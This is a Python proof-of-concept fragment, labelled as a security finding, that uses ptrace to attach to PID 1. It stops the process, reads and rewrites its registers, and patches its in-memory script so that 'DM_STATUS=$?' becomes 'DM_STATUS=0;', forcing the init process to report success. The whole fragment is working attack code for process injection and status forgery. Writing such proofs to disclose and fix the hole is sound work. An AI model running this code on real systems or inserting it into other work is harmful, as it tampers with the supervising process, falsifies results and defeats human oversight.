# Finding 1, ptrace: seize PID 1, stop it, read and write back its registers, patch its
# not-yet-parsed script (`DM_STATUS=$?` -> `DM_STATUS=0;`) word by word, let it go, exit 3.
PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_DETACH = 2, 5, 17
PTRACE_GETREGSET, PTRACE_SETREGSET, PTRACE_SEIZE, PTRACE_INTERRUPT = 0x4204, 0x4205, 0x4206, 0x4207
NT_PRSTATUS, WALL = 1, 0x40000000


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def peek(addr):
    ctypes.set_errno(0)
    word = libc.ptrace(PTRACE_PEEKDATA, 1, addr, None)
    if ctypes.get_errno():
        raise OSError(ctypes.get_errno(), "peek")
    return word & (2**64 - 1)


ranges = maps_of_pid1()
if c_call("ptrace(PTRACE_SEIZE, 1)", libc.ptrace, PTRACE_SEIZE, 1, None, None) is not None:
    c_call("ptrace(PTRACE_INTERRUPT, 1)", libc.ptrace, PTRACE_INTERRUPT, 1, None, None)
    attempt("waitpid(1, __WALL) for the stop", os.waitpid, 1, WALL)
    regs = ctypes.create_string_buffer(8 * 64)
    iov = IoVec(ctypes.cast(regs, ctypes.c_void_p), ctypes.sizeof(regs))
    if c_call("ptrace(PTRACE_GETREGSET, 1, NT_PRSTATUS)", libc.ptrace, PTRACE_GETREGSET, 1, NT_PRSTATUS, ctypes.addressof(iov)) is not None:
        # Written back unchanged: proves they could be changed.
        c_call("ptrace(PTRACE_SETREGSET, 1, NT_PRSTATUS)", libc.ptrace, PTRACE_SETREGSET, 1, NT_PRSTATUS, ctypes.addressof(iov))
    patched = 0
    for lo, hi, name in readable(ranges, writable=True):
        if hi - lo > 8 << 20:
            continue
        try:
            words = [peek(a) for a in range(lo, hi, 8)]
        except OSError:
            continue
        data = bytearray(b"".join(w.to_bytes(8, "little") for w in words))
        for m in re.finditer(re.escape(b"DM_STATUS=$?"), bytes(data)):
            data[m.start():m.end()] = b"DM_STATUS=0;"
            for w in range(m.start() // 8, (m.end() - 1) // 8 + 1):
                value = int.from_bytes(data[w * 8:w * 8 + 8], "little")
                if c_call(f"ptrace(PTRACE_POKEDATA, 1, {lo + w * 8:x})", libc.ptrace, PTRACE_POKEDATA, 1, lo + w * 8, value) is not None:
                    patched += 1
    (ok if patched else fail)("script-patched-by-ptrace", patched)
    c_call("ptrace(PTRACE_DETACH, 1)", libc.ptrace, PTRACE_DETACH, 1, None, None)
sys.exit(3)
